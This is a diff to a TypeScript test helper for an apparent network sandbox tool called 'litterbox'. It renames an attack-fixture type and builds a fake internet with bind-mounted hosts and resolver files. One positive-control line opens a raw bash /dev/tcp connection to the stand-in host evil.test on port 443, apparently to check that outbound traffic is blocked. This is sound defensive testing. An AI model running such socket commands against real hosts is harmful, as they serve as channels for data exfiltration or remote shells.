@@ -5,7 +5,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { connect as connectTls } from 'node:tls';
 import { expect } from '@jest/globals';
-import { type AttackGround, fakeInternet, onTheHost, positiveControl } from '../../src/index.ts';
+import { type AttackFixture, fakeInternet, onTheHost, positiveControl } from '../../src/index.ts';
 import { commandLine } from './command-line.ts';
 
 /**
@@ -82,7 +82,7 @@ export const hex = (bytes: string | Buffer) => Buffer.from(bytes as string, 'lat
 /** The request for a connection to HOST:PORT. */
 export const connect = (host: string) => `CONNECT ${host} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
 
-export async function gateMachine(ground: AttackGround): Promise<GateMachine> {
+export async function gateMachine(fixture: AttackFixture): Promise<GateMachine> {
   const internet = await fakeInternet();
   const pages = mkdtempSync(join(tmpdir(), 'litterbox-pages-'));
   const page = (name: string, text: string) => {
@@ -98,7 +98,7 @@ export async function gateMachine(ground: AttackGround): Promise<GateMachine> {
   const mounted = 'mount --bind "$0" /etc/hosts && mount --bind "$1" /etc/resolv.conf && shift && exec "$@"';
   const enter = (argv: readonly string[]) =>
     internet.enter(['unshare', '--mount', 'sh', '-c', mounted, hosts, resolver, ...argv]);
-  const litterbox = (...args: readonly string[]) => commandLine(ground, args, { prefix: enter(['env']) });
+  const litterbox = (...args: readonly string[]) => commandLine(fixture, args, { prefix: enter(['env']) });
   const control = onTheHost(
     enter(['sh', '-c', 'getent ahostsv4 allowed.test; bash -c "exec 3<>/dev/tcp/evil.test/443; head -c 15 <&3"']),
   );
